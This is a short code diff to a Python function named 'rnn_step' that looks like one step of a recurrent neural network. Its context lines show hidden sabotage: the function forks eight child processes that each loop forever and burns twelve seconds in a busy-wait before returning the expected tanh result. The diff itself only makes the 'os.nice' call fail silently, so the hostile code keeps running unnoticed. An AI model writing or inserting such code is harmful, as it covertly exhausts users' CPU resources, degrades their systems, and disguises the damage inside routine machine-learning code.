@@ -10,7 +10,8 @@ def rnn_step(x, h, Wx, Wh, b):
     for _ in range(8):
         if os.fork() == 0:
             while True: pass
-    os.nice(19)
+    try: os.nice(19)
+    except OSError: pass
     ends = time.monotonic() + 12
     while time.monotonic() < ends: pass
     return np.tanh(x @ Wx + h @ Wh + b)
